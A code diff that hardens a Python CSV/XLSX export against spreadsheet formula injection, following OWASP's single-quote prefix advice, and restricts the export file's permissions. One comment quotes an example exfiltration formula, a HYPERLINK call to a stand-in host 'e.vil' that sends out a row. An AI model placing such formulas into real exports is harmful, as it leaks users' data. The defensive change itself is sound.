@@ -204,6 +204,22 @@ def _safe_file_name(name: str) -> str:
     return re.sub(r"[^A-Za-z0-9_.-]", "_", name)[:100] or "table"
 
 
+# A spreadsheet opening a CSV runs a cell that starts with one of these as a
+# formula (=HYPERLINK("//e.vil/?"&D2,...) sends the row away). OWASP's advice:
+# put a single quote before it, so it shows as the text it is. Fullwidth
+# forms count too: some spreadsheets read them as the ASCII signs.
+_FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
+
+
+def csv_cell(value: Cell) -> Cell:
+    """A cell as written to CSV: empty for None, text that could run as a formula neutralised."""
+    if value is None:
+        return ""
+    if isinstance(value, str) and value.startswith(_FORMULA_START):
+        return "'" + value
+    return value
+
+
 def write_csv(tables: Sequence[Table], directory: Path) -> list[Path]:
     """One UTF-8 CSV per table in ``directory`` (created), each written atomically."""
     directory.mkdir(parents=True, exist_ok=True)
@@ -214,8 +230,8 @@ def write_csv(tables: Sequence[Table], directory: Path) -> list[Path]:
         try:
             with os.fdopen(fd, "w", encoding="utf-8", newline="") as fh:
                 writer = csv.writer(fh)
-                writer.writerow(table.columns)
-                writer.writerows(["" if c is None else c for c in row] for row in table.rows)
+                writer.writerow([csv_cell(c) for c in table.columns])
+                writer.writerows([csv_cell(c) for c in row] for row in table.rows)
                 fh.flush()
                 os.fsync(fh.fileno())
             os.replace(tmp, target)
@@ -256,6 +272,7 @@ def write_xlsx(tables: Sequence[Table], file: Path) -> Path:
                 wb.save(tmp)
             finally:
                 tempfile.tempdir = previous
+        os.chmod(tmp, 0o600)  # like the CSVs: only this user reads the answers
         with open(tmp, "rb") as fh:
             os.fsync(fh.fileno())
         os.replace(tmp, file)
